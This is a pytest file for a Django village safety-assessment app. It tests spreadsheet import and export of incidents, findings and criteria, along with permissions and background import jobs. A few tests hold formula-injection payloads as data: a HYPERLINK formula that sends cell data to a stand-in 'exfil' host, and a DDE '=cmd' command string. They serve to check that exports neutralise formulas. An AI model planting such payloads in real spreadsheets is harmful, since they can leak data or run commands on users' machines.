"""Campaign sheets: incidents from a case system, town findings, exports that re-import."""

import io
import subprocess
from datetime import date

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from assessments import services
from assessments.imports import (
    CRITERION_HEADERS,
    FINDING_HEADERS,
    INCIDENT_HEADERS,
    import_criteria,
    import_findings,
    import_incidents,
)
from assessments.models import Finding, Incident, SheetImport, Title
from assessments.selectors import criteria_of
from audit.models import AuditEntry
from pingan.sheets import SheetRefused, write_table
from tests.helpers import answer_everything


def workbook(headers, rows):
    book = openpyxl.Workbook()
    book.active.append(headers)
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("表.xlsx", buffer.getvalue())


def test_incidents_import_revokes_like_a_hand_entry(people, standards, xingou, cuiwang):
    title = Title.objects.create(
        village=xingou,
        kind=Title.Kind.SAFE_VILLAGE,
        first_year=2024,
        last_year=2024,
        certificate_number="429006104-2024-001",
        certificate_date=date(2024, 12, 31),
        issuer="中共汪场镇委员会",
    )
    rows = [
        [xingou.code, "新沟村", "命案", "2024-11-05", "一起命案", "天公刑〔2024〕88号"],
        [cuiwang.code, "崔王村", "黄赌毒案件", date(2024, 6, 1), "赌博", ""],
    ]
    preview = import_incidents(
        actor=people["town_office"], upload=workbook(INCIDENT_HEADERS, rows), dry_run=True
    )
    assert preview.applied == 2 and preview.notes == ["第2行：新沟村撤销称号 1 个"]
    assert not Incident.objects.exists()
    title.refresh_from_db()
    assert title.status == Title.Status.VALID
    import_incidents(
        actor=people["town_office"], upload=workbook(INCIDENT_HEADERS, rows), dry_run=False
    )
    title.refresh_from_db()
    assert Incident.objects.count() == 2 and title.status == Title.Status.REVOKED


def test_incident_sheet_refusals_change_nothing(people, standards, xingou):
    rows = [
        [xingou.code, "新沟村", "命案", "2024-11-05", "一起命案", ""],
        ["429006104999", "无此村", "命案", "2024-11-05", "x", ""],
        [xingou.code, "新沟村", "不存在的类别", "昨天", "x", ""],
    ]
    with pytest.raises(SheetRefused) as refused:
        import_incidents(
            actor=people["town_office"], upload=workbook(INCIDENT_HEADERS, rows), dry_run=False
        )
    problems = refused.value.problems
    assert any(p.startswith("第3行“统计用区划代码”列") for p in problems)
    assert any(p.startswith("第4行“案事件类别”列") for p in problems)
    assert any(p.startswith("第4行“发生日期”列") for p in problems)
    assert not Incident.objects.exists()


def test_a_service_refusal_undoes_every_row(people, standards, xingou, cuiwang):
    rows = [
        [xingou.code, "新沟村", "命案", "2024-11-05", "一起命案", ""],
        [cuiwang.code, "崔王村", "命案", "2999-01-01", "未来", ""],
    ]
    with pytest.raises(SheetRefused) as refused:
        import_incidents(
            actor=people["town_office"], upload=workbook(INCIDENT_HEADERS, rows), dry_run=False
        )
    assert refused.value.problems == ["第3行：发生日期不能晚于今天。"]
    assert not Incident.objects.exists()


def test_town_findings_from_paper(people, campaign, xingou):
    assessment = campaign.assessments.get(village=xingou)
    answer_everything(people["secretary"], assessment)
    services.submit_assessment(actor=people["secretary"], assessment_id=assessment.pk)
    judged = [c for c in criteria_of(campaign.standard) if c.is_judged]
    rows = [
        [xingou.code, "新沟村", c.key, c.title, "同意", "", ""]
        for c in judged
        if c.key != "technical-prevention.cameras"
    ]
    rows.append(
        [xingou.code, "新沟村", "technical-prevention.cameras", "探头", "不同意", "3", "仅3个"]
    )
    import_findings(
        actor=people["town_office"],
        campaign=campaign,
        upload=workbook(FINDING_HEADERS, rows),
        dry_run=False,
    )
    assert assessment.findings.filter(stage=Finding.Stage.TOWN).count() == 22
    cameras = assessment.findings.get(criterion__key="technical-prevention.cameras")
    assert (cameras.agrees, str(cameras.value)) == (False, "3.00")

    rows[0][4] = "也许"
    with pytest.raises(SheetRefused) as refused:
        import_findings(
            actor=people["town_office"],
            campaign=campaign,
            upload=workbook(FINDING_HEADERS, rows),
            dry_run=False,
        )
    assert refused.value.problems == ["第2行“结论”列应为“同意”或“不同意”，现为“也许”。"]


def test_exports_follow_permissions_and_re_import(client, people, campaign, xingou, cuiwang):
    for village, secretary in [(xingou, people["secretary"])]:
        assessment = campaign.assessments.get(village=village)
        answer_everything(secretary, assessment)
        services.submit_assessment(actor=secretary, assessment_id=assessment.pk)
        services.save_findings(
            actor=people["town_office"],
            assessment_id=assessment.pk,
            findings=[
                {"criterion_id": c.pk, "agrees": True}
                for c in criteria_of(campaign.standard)
                if c.is_judged
            ],
        )
    client.force_login(people["town_office"])
    response = client.get(reverse("assessments:export_campaign", args=[campaign.pk, "findings"]))
    rows = list(
        openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    )
    assert list(rows[0]) == FINDING_HEADERS and len(rows) == 23
    outcome = import_findings(
        actor=people["town_office"],
        campaign=campaign,
        upload=SimpleUploadedFile("导出.xlsx", response.content),
        dry_run=True,
    )
    assert outcome.applied == 22

    results = client.get(reverse("assessments:export_campaign", args=[campaign.pk, "assessments"]))
    sheet = list(
        openpyxl.load_workbook(io.BytesIO(results.content)).active.iter_rows(values_only=True)
    )
    assert sheet[0][:3] == ("统计用区划代码", "村(社区)", "自评状态") and len(sheet) == 18

    client.force_login(people["secretary"])
    own = client.get(reverse("assessments:export_campaign", args=[campaign.pk, "assessments"]))
    names = [
        row[1]
        for row in openpyxl.load_workbook(io.BytesIO(own.content)).active.iter_rows(
            min_row=2, values_only=True
        )
    ]
    assert names == ["新沟村"]
    for name in ["titles", "incidents", "orders"]:
        assert client.get(reverse("assessments:export_list", args=[name])).status_code == 200
    assert client.get(reverse("assessments:export_list", args=["passwords"])).status_code == 404


def test_import_pages(client, people, standards, xingou):
    client.force_login(people["town_office"])
    template = client.get(reverse("assessments:incident_import") + "?template=1")
    assert [
        c.value for c in openpyxl.load_workbook(io.BytesIO(template.content)).active[1]
    ] == INCIDENT_HEADERS
    rows = [[xingou.code, "新沟村", "命案", "2024-11-05", "一起命案", ""]]
    preview = client.post(
        reverse("assessments:incident_import"), {"file": workbook(INCIDENT_HEADERS, rows)}
    )
    assert preview.status_code == 200 and not Incident.objects.exists()
    client.post(
        reverse("assessments:incident_import"), {"confirm": "1", "token": preview.context["token"]}
    )
    assert Incident.objects.count() == 1
    client.force_login(people["secretary"])
    assert client.get(reverse("assessments:incident_import")).status_code == 403


def test_criteria_export_re_imports_into_a_new_version(client, people, standards):
    safe_village = standards[0]
    client.force_login(people["administrator"])
    exported = client.get(
        reverse("assessments:criteria_import", args=[safe_village.pk]) + "?template=1"
    ).content
    copy = services.copy_standard_as_new_version(
        actor=people["administrator"], standard_id=safe_village.pk
    )
    book = openpyxl.load_workbook(io.BytesIO(exported))
    rows = [list(row) for row in book.active.iter_rows(values_only=True)]
    cameras = next(row for row in rows if row[0] == "technical-prevention.cameras")
    cameras[8] = 8
    rows.append(
        [
            "county.rubric",
            "",
            "八",
            "县级特色项目",
            "有特色",
            "评分项",
            "",
            "",
            "",
            "",
            10,
            "",
            "否",
        ]
    )
    outcome = import_criteria(
        actor=people["administrator"],
        standard=copy,
        upload=workbook(rows[0], rows[1:]),
        dry_run=False,
    )
    assert outcome.applied == len(rows) - 1
    assert copy.criteria.get(key="technical-prevention.cameras").bound == 8
    assert copy.criteria.get(key="county.rubric").max_score == 10
    assert safe_village.criteria.get(key="technical-prevention.cameras").bound == 5


def test_criteria_import_refuses_a_pinned_version_and_bad_rows(people, standards):
    safe_village = standards[0]
    services.pin_standard(actor=people["administrator"], standard_id=safe_village.pk, reason="启用")
    rows = [["x.one", "", "一", "标题", "", "达标要求", "", "", "", "", "", "", "否"]]
    with pytest.raises(SheetRefused, match="复制为新版本"):
        import_criteria(
            actor=people["administrator"],
            standard=safe_village,
            upload=workbook(CRITERION_HEADERS, rows),
            dry_run=False,
        )
    copy = services.copy_standard_as_new_version(
        actor=people["administrator"], standard_id=safe_village.pk
    )
    bad = [
        ["x.one", "x.missing", "一", "标题", "", "达标要求", "", "", "", "", "", "", "否"],
        ["x.two", "", "二", "标题", "", "猜测", "", "", "", "", "", "", "否"],
        ["x.three", "", "三", "数量", "", "数量指标", "", "", "", "", "", "", "否"],
    ]
    before = copy.criteria.count()
    with pytest.raises(SheetRefused) as refused:
        import_criteria(
            actor=people["administrator"],
            standard=copy,
            upload=workbook(CRITERION_HEADERS, bad),
            dry_run=False,
        )
    problems = refused.value.problems
    assert any(p.startswith("第2行“上级条目标识”") for p in problems)
    assert any(p.startswith("第3行“评判方式”") for p in problems)
    assert copy.criteria.count() == before


def test_exported_campaign_opens_in_libreoffice_and_re_imports(
    client, people, campaign, xingou, tmp_path
):
    assessment = campaign.assessments.get(village=xingou)
    answer_everything(people["secretary"], assessment)
    services.submit_assessment(actor=people["secretary"], assessment_id=assessment.pk)
    judged = [c for c in criteria_of(campaign.standard) if c.is_judged]
    services.save_findings(
        actor=people["town_office"],
        assessment_id=assessment.pk,
        findings=[{"criterion_id": c.pk, "agrees": True} for c in judged],
    )
    client.force_login(people["town_office"])
    content = client.get(
        reverse("assessments:export_campaign", args=[campaign.pk, "findings"])
    ).content
    path = tmp_path / "考核意见.xlsx"
    path.write_bytes(content)
    converted = subprocess.run(
        [
            "soffice",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert converted.returncode == 0, converted.stderr
    csv = (tmp_path / "考核意见.csv").read_text(encoding="utf-8")
    assert "条目标识" in csv and "新沟村" in csv and "同意" in csv
    outcome = import_findings(
        actor=people["town_office"],
        campaign=campaign,
        upload=SimpleUploadedFile("考核意见.xlsx", content),
        dry_run=True,
    )
    assert outcome.applied == 22


HOSTILE = '=HYPERLINK("http://example.invalid/exfil?"&A2,"click")'


def test_a_formula_typed_as_text_is_exported_as_text(client, people, campaign, xingou):
    assessment = campaign.assessments.get(village=xingou)
    answer_everything(people["secretary"], assessment)
    services.submit_assessment(actor=people["secretary"], assessment_id=assessment.pk)
    veto = criteria_of(campaign.standard)[1]
    services.save_finding(
        actor=people["town_office"],
        assessment_id=assessment.pk,
        criterion_id=veto.pk,
        agrees=False,
        veto_occurred=False,
        comment=HOSTILE,
    )
    xingou.secretary_phone = "=cmd|'/c calc'!A1"
    xingou.save(update_fields=["secretary_phone"])
    client.force_login(people["town_office"])
    for url in [
        reverse("assessments:export_campaign", args=[campaign.pk, "findings"]),
        reverse("villages:export"),
    ]:
        response = client.get(url)
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], url
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert HOSTILE in texts or "=cmd|'/c calc'!A1" in texts, url


def test_a_written_table_keeps_every_row_in_order_and_formulas_as_text():
    rows = [("=1+1", "@SUM(A1)"), ("正常", 3), ("-2", None), ("+86 138", "\t=x")]
    book = openpyxl.load_workbook(io.BytesIO(write_table("结果", ("村", "说明"), rows)))
    sheet = book.active
    assert [tuple(row) for row in sheet.iter_rows(min_row=2, values_only=True)] == rows
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    quoted = {cell.value for cell in cells if cell.quotePrefix}
    assert quoted == {"=1+1", "@SUM(A1)", "-2", "+86 138", "\t=x"}


def test_a_text_cell_that_would_become_a_formula_is_refused_on_import(people, standards, xingou):
    book = openpyxl.Workbook()
    book.active.append(INCIDENT_HEADERS)
    book.active.append([xingou.code, "新沟村", "命案", "2024-11-05", HOSTILE, ""])
    book.active["E2"].data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(SheetRefused, match="以“=”开头"):
        import_incidents(
            actor=people["town_office"],
            upload=SimpleUploadedFile("表.xlsx", buffer.getvalue()),
            dry_run=True,
        )
    assert not Incident.objects.exists()


WRITES = ("INSERT", "UPDATE", "DELETE")


def test_a_preview_writes_nothing_and_locks_nothing(people, campaign, xingou, cuiwang):
    rows = [
        [xingou.code, "新沟村", "命案", "2024-11-05", "一起命案", ""],
        [cuiwang.code, "崔王村", "黄赌毒案件", "2024-06-01", "赌博", ""],
    ]
    with CaptureQueriesContext(connection) as queries:
        preview = import_incidents(
            actor=people["town_office"], upload=workbook(INCIDENT_HEADERS, rows), dry_run=True
        )
    assert preview.applied == 2
    statements = [query["sql"].lstrip().upper() for query in queries.captured_queries]
    assert not [sql for sql in statements if sql.startswith(WRITES) or "FOR UPDATE" in sql]


def long_incident_sheet(villages, count):
    return workbook(
        INCIDENT_HEADERS,
        [
            [villages[i % len(villages)].code, "", "黄赌毒案件", "2024-06-01", f"第{i}起", ""]
            for i in range(count)
        ],
    )


def test_a_long_sheet_is_checked_and_imported_by_the_worker(
    client,
    people,
    standards,
    xingou,
    cuiwang,
    settings,
    run_worker,
    django_capture_on_commit_callbacks,
):
    settings.IMPORT_INLINE_ROWS = 5
    client.force_login(people["town_office"])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("assessments:incident_import"),
            {"file": long_incident_sheet([xingou, cuiwang], 12)},
        )
    job = SheetImport.objects.get()
    assert response.url == reverse("assessments:sheet_import_detail", args=[job.pk])
    assert (job.status, job.total) == (SheetImport.Status.CHECKING, 12)
    page = client.get(response.url)
    assert "已校验 0 / 12 行" in page.text and 'http-equiv="refresh"' in page.text

    run_worker()
    job.refresh_from_db()
    assert (job.status, job.done, job.applied) == (SheetImport.Status.CHECKED, 12, 12)
    assert not Incident.objects.exists()
    assert "可导入 12 行" in client.get(response.url).text

    client.force_login(people["city_office"])
    assert client.get(response.url).status_code == 404
    confirm = reverse("assessments:sheet_import_confirm", args=[job.pk])
    assert client.post(confirm).status_code == 404

    client.force_login(people["town_office"])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(confirm)
    run_worker()
    job.refresh_from_db()
    assert job.status == SheetImport.Status.APPLIED and Incident.objects.count() == 12
    assert "已导入 12 行" in client.get(response.url).text
    assert [e.to_status for e in job.events.order_by("id")] == [
        "checking",
        "checked",
        "applying",
        "applied",
    ]
    assert AuditEntry.objects.filter(action="import.incidents", actor=people["town_office"])
    with django_capture_on_commit_callbacks(execute=True):
        again = client.post(confirm, follow=True)
    assert "不能确认导入" in again.text and Incident.objects.count() == 12


def test_a_long_sheet_with_a_bad_row_is_refused_by_the_worker(
    client, people, standards, xingou, settings, run_worker, django_capture_on_commit_callbacks
):
    settings.IMPORT_INLINE_ROWS = 2
    client.force_login(people["town_office"])
    rows = [[xingou.code, "", "黄赌毒案件", "2999-01-01", "未来", ""]] * 3
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("assessments:incident_import"), {"file": workbook(INCIDENT_HEADERS, rows)}
        )
    run_worker()
    job = SheetImport.objects.get()
    assert job.status == SheetImport.Status.REFUSED
    assert job.problems[0] == "第2行：发生日期不能晚于今天。"
    assert (
        "未导入任何数据"
        in client.get(reverse("assessments:sheet_import_detail", args=[job.pk])).text
    )
    assert not Incident.objects.exists()
